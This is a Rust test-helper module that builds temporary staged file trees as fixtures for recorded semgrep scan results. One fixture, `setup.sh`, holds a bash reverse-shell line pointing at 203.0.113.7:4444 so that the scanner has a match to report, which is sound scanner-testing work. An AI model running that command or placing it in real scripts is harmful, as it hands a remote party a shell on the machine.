//! Copies made by hand, as the recorded outputs in `testdata` saw them.

use crate::staging::{Language, Origin, StagedFile, StagedTree};
use std::fs;
use tempfile::TempDir;

/// A copy and the folder that keeps it.
pub(crate) struct TestCopy {
    pub(crate) copy: StagedTree,
    _folder: TempDir,
}

/// Starts a copy whose files have so many empty lines in front.
pub(crate) fn copy() -> TestCopy {
    let folder = tempfile::tempdir().unwrap();
    let copy = StagedTree { root: folder.path().to_owned(), ..StagedTree::default() };
    TestCopy { copy, _folder: folder }
}

impl TestCopy {
    /// Adds a file; ids count from 1 in the order of adding.
    pub(crate) fn file(self, extension: &str, path: &str, language: Language, text: &str) -> Self {
        self.add(extension, path, language, Origin::File, text)
    }

    /// As [`Self::file`], from anywhere.
    pub(crate) fn add(
        mut self,
        extension: &str,
        path: &str,
        language: Language,
        origin: Origin,
        text: &str,
    ) -> Self {
        let id = format!("f{:06}", self.copy.files.len() + 1);
        let name = format!("{id}.{extension}");
        fs::write(self.copy.root.join(&name), text).unwrap();
        self.copy.files.push(StagedFile {
            id,
            name,
            path: path.into(),
            language,
            origin,
            lines_before: 0,
            content_lines: u32::try_from(text.lines().count()).unwrap(),
            guessed: false,
            raw: false,
        });
        self
    }

    /// Adds an empty planted file.
    pub(crate) fn planted(self, extension: &str, language: Language) -> Self {
        self.add(extension, "(planted)", language, Origin::Planted, "")
    }

    /// Two scripts, of which `setup.sh` holds the match that the recorded reports of semgrep tell of.
    pub(crate) fn scripts(self) -> Self {
        self.file("py", "scripts/a.py", Language::Python, "import json\nprint(json.dumps({}))\n")
            .file(
                "sh",
                "setup.sh",
                Language::Shell,
                "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n",
            )
    }

    /// The planted files of each language that semgrep reads.
    pub(crate) fn planted_for_semgrep(self) -> Self {
        self.planted("js", Language::JavaScript)
            .planted("ts", Language::TypeScript)
            .planted("tsx", Language::Tsx)
            .planted("py", Language::Python)
            .planted("sh", Language::Shell)
            .planted("txt", Language::Text)
    }

    /// Changes the last file.
    pub(crate) fn with(mut self, change: impl FnOnce(&mut StagedFile)) -> Self {
        change(self.copy.files.last_mut().unwrap());
        self
    }

    /// Takes files out, as a run that did not have them.
    pub(crate) fn without(mut self, paths: &[&str]) -> Self {
        for file in &mut self.copy.files {
            if paths.contains(&file.path.as_str()) {
                file.raw = true;
            }
        }
        self
    }
}
